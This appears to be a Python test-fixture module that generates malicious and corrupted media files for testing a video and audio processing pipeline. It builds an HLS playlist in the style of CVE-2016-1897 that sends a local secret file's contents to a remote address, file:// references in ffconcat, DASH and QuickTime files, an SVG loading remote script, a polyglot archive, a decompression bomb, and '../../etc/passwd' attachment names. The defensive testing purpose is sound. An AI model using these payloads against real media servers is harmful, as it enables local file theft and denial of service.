"""Files made to do harm, and ordinary ones with bits turned over. Seeded, so that a failure can be had again."""

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from functools import lru_cache
from pathlib import Path
from tempfile import TemporaryDirectory

from tests.journeys import films


def playlist(address: str, secret: Path) -> bytes:
    """HLS that names a file of this machine and an address, as in CVE-2016-1897."""
    return (
        "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n"
        f"concat:{address}header.m3u8|file://{secret}\n#EXTINF:10.0,\nfile://{secret}\n#EXTINF:10.0,\n{address}a.ts\n"
        "#EXT-X-ENDLIST\n"
    ).encode()


def script(address: str, secret: Path) -> bytes:
    """A list of files for FFmpeg's concat reader."""
    return f"ffconcat version 1.0\nfile 'file://{secret}'\nfile '{address}a.mp4'\n".encode()


def manifest(address: str, secret: Path) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
        f'<Period><BaseURL>{address}</BaseURL><AdaptationSet mimeType="video/mp4"><Representation id="1">'
        f"<BaseURL>file://{secret}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    ).encode()


def drawing_with_script(address: str) -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg"><script href="{address}x.js"/><image href="{address}x.png"/></svg>'
    ).encode()


def box(name: bytes, *content: bytes) -> bytes:
    inside = b"".join(content)
    return struct.pack(">I", 8 + len(inside)) + name + inside


def elsewhere(address: str, secret: Path) -> bytes:
    """A film whose pictures are said to lie in other files (QuickTime's data references)."""
    film = bytearray(ordinary("phone.mov"))
    at = film.index(b"dref")
    url = f"file://{secret}".encode() + b"\0"
    # In the place of "here": the flag that says so is taken away, and what follows is read as an address.
    entry = film.index(b"url ", at)
    film[entry + 7] = 0
    return bytes(film) + box(b"free", url, address.encode())


def polyglot() -> bytes:
    """A film that is a web page and an archive as well."""
    page = b"<script>fetch('/home/')</script>"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("evil.html", page)
    return ordinary("phone.mp4") + box(b"free", page) + archive.getvalue()


def zipped() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("film.mp4", bytes(50_000_000))
    return archive.getvalue()


def _number(value: int) -> bytes:
    """A length as Matroska writes it, in eight bytes."""
    return struct.pack(">Q", value | 1 << 56)


def _element(name: str, *content: bytes) -> bytes:
    inside = b"".join(content)
    return bytes.fromhex(name) + _number(len(inside)) + inside


def many_streams(count: int) -> bytes:
    """A Matroska film that says it has so many streams."""
    tracks = b"".join(
        _element(
            "AE",
            _element("D7", struct.pack(">I", number)),
            _element("83", b"\x01"),
            _element("86", b"V_MPEG4/ISO/AVC"),
        )
        for number in range(1, count + 1)
    )
    return _element("1A45DFA3", _element("4282", b"matroska")) + _element(
        "18538067", _element("1654AE6B", tracks)
    )


def many_attachments(count: int) -> bytes:
    files = b"".join(
        _element("61A7", _element("466E", b"../../etc/passwd"), _element("465C", b"x")) for _ in range(count)
    )
    return _element("1A45DFA3", _element("4282", b"matroska")) + _element(
        "18538067", _element("1941A469", files)
    )


def giant(width: int, height: int) -> bytes:
    """A small film that says its pictures are giants."""
    film = bytearray(ordinary("browser.webm"))
    at = film.index(b"\xb0\x82\x01\x40")
    film[at + 2 : at + 4] = struct.pack(">H", width)
    at = film.index(b"\xba\x81\xb4")
    wide = film[:at] + b"\xba\x82" + struct.pack(">H", height) + film[at + 3 :]
    return bytes(wide)


@lru_cache
def ordinary(name: str) -> bytes:
    """A short good file of each kind."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / name
        if name.startswith("memo"):
            codec = {"m4a": "aac", "mp3": "libmp3lame", "wav": "pcm_s16le", "ogg": "libopus"}[name[-3:]]
            return films.sound(path, codec, seconds=0.3).read_bytes()
        codec, sound = {
            "phone.mp4": ("libx264", "aac"),
            "phone.mov": ("libx265", "aac"),
            "browser.webm": ("libvpx", "libopus"),
            "film.mkv": ("libx264", "libopus"),
            "old.mp4": ("mpeg4", "libmp3lame"),
            "nine.webm": ("libvpx-vp9", None),
        }[name]
        return films.film(path, codec, sound=sound, seconds=0.3, rate=10).read_bytes()


ALL = (
    "phone.mp4", "phone.mov", "browser.webm", "film.mkv", "old.mp4", "nine.webm",
    "memo.m4a", "memo.mp3", "memo.wav", "memo.ogg",
)  # fmt: skip


def mangled(count: int, seed: int) -> Iterator[tuple[str, bytes]]:
    """So many ordinary files, each spoilt in one of five ways; with what says which it was."""
    chance = random.Random(seed)
    for number in range(count):
        name = ALL[number % len(ALL)]
        data = bytearray(ordinary(name))
        way = chance.choice(("bits", "head", "cut", "hole", "swap"))
        if way == "bits":
            for _ in range(chance.randrange(1, 60)):
                data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        elif way == "head":
            # Where lengths and counts are.
            for _ in range(chance.randrange(1, 12)):
                data[chance.randrange(4, min(600, len(data)))] = chance.choice((0, 1, 0x7F, 0x80, 0xFF))
        elif way == "cut":
            del data[chance.randrange(len(data)) :]
        elif way == "hole":
            at = chance.randrange(len(data))
            data[at : at + chance.randrange(1, 2000)] = bytes(chance.randrange(1, 2000))
        else:
            a, b = sorted(chance.randrange(len(data)) for _ in range(2))
            data = data[b:] + data[a:b] + data[:a] if chance.random() < 0.2 else data[:a] + data[b:]
        yield f"{number} {name} {way} (seed {seed})", bytes(data)
